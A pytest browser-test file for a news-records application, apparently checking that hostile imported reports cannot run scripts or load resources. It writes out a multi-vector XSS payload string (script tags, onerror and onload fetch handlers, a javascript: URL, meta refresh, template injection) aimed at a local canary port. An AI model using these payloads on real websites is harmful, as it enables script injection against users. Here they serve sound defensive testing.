"""A page by somebody hostile, in every field and as it came: nothing of it runs, loads or leads anywhere."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from onrecord.store.collection import open_collection
from onrecord.verbs import deciding, linking, looking, protecting
from onrecord.verbs.adding import add
from tests.browser.conftest import Visiting
from tests.browser.pages import MAKES_AN_ACCOUNT, address, pages


class Canary:
    """A port that nobody has a reason to knock at."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.hits = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                one, _ = self._socket.accept()
            except OSError:
                return
            self.hits += 1
            one.close()

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.close()


def hostile(port: int) -> str:
    at = f"http://127.0.0.1:{port}"
    return (
        f"\"'><script src={at}/s.js></script><img src={at}/i.png onerror=\"fetch('{at}/e')\"><svg/onload=fetch('{at}/v')>"
        f"<iframe src={at}/f></iframe><link rel=stylesheet href={at}/c.css><meta http-equiv=refresh content='0;url={at}/m'>"
        f"<form action={at}/a><button autofocus onfocus=\"window.pwned=1\">x</button></form>{{{{7*7}}}}</style><style>@import '{at}/t';"
    )


def brought(folder: Path, port: int) -> list[str]:
    """The ids of two hostile reports, in which every field says what is hostile, with acts judged in such words."""
    bad = hostile(port)
    told = {
        "id": f"r{bad}",
        "text": f"Police in Osh arrested Ida Lund on Monday, a lawyer said. {bad}\n\nCourt officials denied it. {bad}",
        **dict.fromkeys(("title", "publisher", "agency", "byline"), bad),
        "published": "2024-03-18",
        "url": f"javascript:fetch('http://127.0.0.1:{port}/u')",
        "language": "en",
    }
    lines = folder.parent / "hostile.jsonl"
    lines.write_text(json.dumps(told) + "\n", "utf-8")
    page = folder.parent / "hostile.html"
    story = "<p>Police in Osh arrested Ole Lund on Tuesday, his wife, Ida Lund, told reporters in the evening.</p>" * 3
    page.write_text(
        f"<html><head><title>{bad}</title></head><body><article>{story}{bad}</article></body></html>", "utf-8"
    )
    with open_collection(folder, user="anna") as records:
        outcomes = list(add(records, [lines, page]))
        reports = [one.report for one in outcomes if one.report]
        for act in list(looking.acts(records, looking.wanted(report=reports[0]))):
            deciding.correct(records, act.id, "charge", bad, because=bad)
            deciding.correct(records, act.id, "affected", "Ida Lund; <b>ten people</b>", because=bad)
        for one in list(looking.persons(records))[:1]:
            protecting.protect(records, one.id, reason="other", because=bad, may_see=("ben",), consent=bad)
        linking.link(records)
    return reports


def test_nothing_hostile_runs_or_loads(visiting: Visiting, folder: Path, canary: Canary) -> None:
    """Every page is opened with it, and the capture as it came: no script ran, and the port was not knocked at."""
    reports = brought(folder, canary.port)
    desk = visiting()
    desk.page.on("dialog", lambda dialog: desk.errors.append(f"dialog: {dialog.message}"))
    for name in [one for one in pages() if one != MAKES_AN_ACCOUNT]:
        with open_collection(folder, user="anna") as records:
            told = address(name, records, lambda _: None)
        if told:
            desk.goes_to(told)
            desk.page.wait_for_timeout(150)
            assert desk.page.evaluate("window.pwned === undefined")
    for report in reports:
        desk.goes_to(f"/reports/{report}")
        assert desk.page.locator("#words script, #words img, #words iframe").count() == 0
        for link in desk.page.locator("main a").all():
            assert (link.get_attribute("href") or "").startswith(("/", "#", "http://127.0.0.1:"))
    # The other one came in a list of reports, which the browser is told to save.
    desk.page.goto(desk.page.get_by_text("as captured").first.get_attribute("href") or "")
    desk.page.wait_for_timeout(500)
    assert desk.page.evaluate("window.pwned === undefined")
    assert canary.hits == 0
    assert not [one for one in desk.errors if one.startswith("dialog")]


def test_the_canary_is_heard(visiting: Visiting, canary: Canary) -> None:
    """A page that does load something from there is noticed."""
    desk = visiting()
    desk.page.goto(f"data:text/html,<img src='http://127.0.0.1:{canary.port}/i.png'>")
    desk.page.wait_for_timeout(500)
    assert canary.hits > 0
